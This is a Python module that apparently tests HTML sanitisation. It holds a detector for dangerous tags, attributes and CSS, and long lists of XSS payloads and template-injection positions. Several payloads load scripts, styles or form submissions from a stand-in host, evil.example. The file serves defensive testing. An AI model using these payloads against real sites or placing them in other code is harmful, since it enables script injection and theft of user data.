"""What is dangerous in HTML: how it is found, and ways in which it is tried."""

from html.parser import HTMLParser
from typing import Any


class Tags(HTMLParser):
    """Every tag and every attribute of a document."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}


ADDRESSES = ("http:", "https:", "mailto:", "tel:")
WORDS_OF_STYLES = ("@import", "url(", "javascript:", "expression(", "-moz-binding", "\\")


def dangers(html: str) -> list[str]:
    """Name what in a document could run or load something by itself."""
    read = Tags(html)
    known = {"script", "form", "iframe", "object", "embed", "svg", "link", "base", "input", "math"}
    found = [tag for tag in read.tags if tag in known]
    for name, value in read.attributes:
        loaded = name in ("href", "src", "background")
        if name.startswith("on") or (loaded and not value.startswith(ADDRESSES)):
            found.append(f"{name}={value}")
        if name == "style" and any(word in value.lower() for word in WORDS_OF_STYLES):
            found.append(f"{name}={value}")
    styles = html.partition("<style>")[2].partition("</style>")[0].lower()
    return found + [word for word in (*WORDS_OF_STYLES, "<") if word in styles]


CORPUS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/png;base64,AAAA'>",
    "<img src='mailto:a@example.com'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvA\tscript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<form action='https://evil.example'><input name=a><button>x</button></form>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src='https://evil.example'></iframe><object data=x></object><embed src=x>",
    "<base href='https://evil.example'><link rel=stylesheet href='https://evil.example/a.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<table background='javascript:alert(1)'><tr><td background='data:x'>x</td></tr></table>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='background:u\\72l(https://evil.example)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='width:exp/**/ression(alert(1));-moz-binding:url(x)'>x</p>",
    "<style>p{background:url(https://evil.example)} @import 'https://evil.example';</style><p>x</p>",
    "<style>@media print{p{background:url(https://evil.example);x:javascript:y}}</style><p>x</p>",
    "<style>@media print{</style/><script>alert(1)</script>}</style>",
    "<style>@media print{a{content:'<\\/style><script>alert(1)</script>'}}</style>",
    "<style>@import url(x);@im@importport 'x';</style>",
    "<!-- <script>alert(1)</script> --><!--[if mso]><script>alert(1)</script><![endif]-->",
    "<title></title><script>alert(1)</script>",
    "<body onload=alert(1) style='background:url(https://evil.example)' bgcolor='x\"onclick=y'>x",
    "<html lang='x\"onclick=alert(1)'><body>x</body></html>",
    "<p onclick=alert(1) ONMOUSEOVER=alert(1)>x</p>",
    "<a href='https://x.example' target='_blank' onfocus=alert(1) autofocus>x</a>",
    "<template><script>alert(1)</script></template><textarea></textarea><script>x</script>",
    "</body></html><script>alert(1)</script>",
]

PLACES = [
    "<p>{{ customer.name }}</p>",
    '<p title="{{ customer.name }}">x</p>',
    "<p title={{ customer.name }}>x</p>",
    '<a href="{{ customer.name }}">x</a>',
    '<img src="{{ customer.name }}" alt="x">',
    '<p style="color:{{ customer.name }}">x</p>',
    "<style>@media print{p{color:{{ customer.name }}}}</style><p>x</p>",
    "<{{ customer.name }}>x",
    "<!-- {{ customer.name }} -->",
    '<body style="{{ customer.name }}" bgcolor="{{ customer.name }}">x</body>',
    "<title>{{ customer.name }}</title>{% for r in recommendations %}{{ r.name }}{% endfor %}",
]
EVIL_VALUES = [
    *CORPUS,
    "javascript:alert(1)",
    "x onclick=alert(1)",
    'x" onclick="alert(1)',
    "x' onclick='alert(1)",
    "--><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "red;background:url(https://evil.example)",
    "script",
    "script src=https://evil.example/x.js",
    "{{ customer.email }}{% load x %}",
]
